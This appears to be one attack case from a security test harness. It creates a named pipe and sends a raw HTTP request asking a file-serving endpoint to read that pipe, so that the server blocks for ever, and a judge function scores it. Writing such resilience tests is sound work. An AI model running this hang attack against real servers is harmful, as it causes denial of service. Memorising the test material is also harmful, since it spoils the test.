# aim: have the server wait for ever
# mechanism: a pipe in place of a file, whose reader waits for ever
# server: files
# plain: naive

def attack():
    run("import os\nos.mkfifo('pipe')")
    with line() as held:
        held.send(f"GET {here}/files/content?path=pipe HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nConnection: close\r\n\r\n".encode())
        answer, over = held.rest()
    return not over and "the server waits for it for ever"


judge(attack)
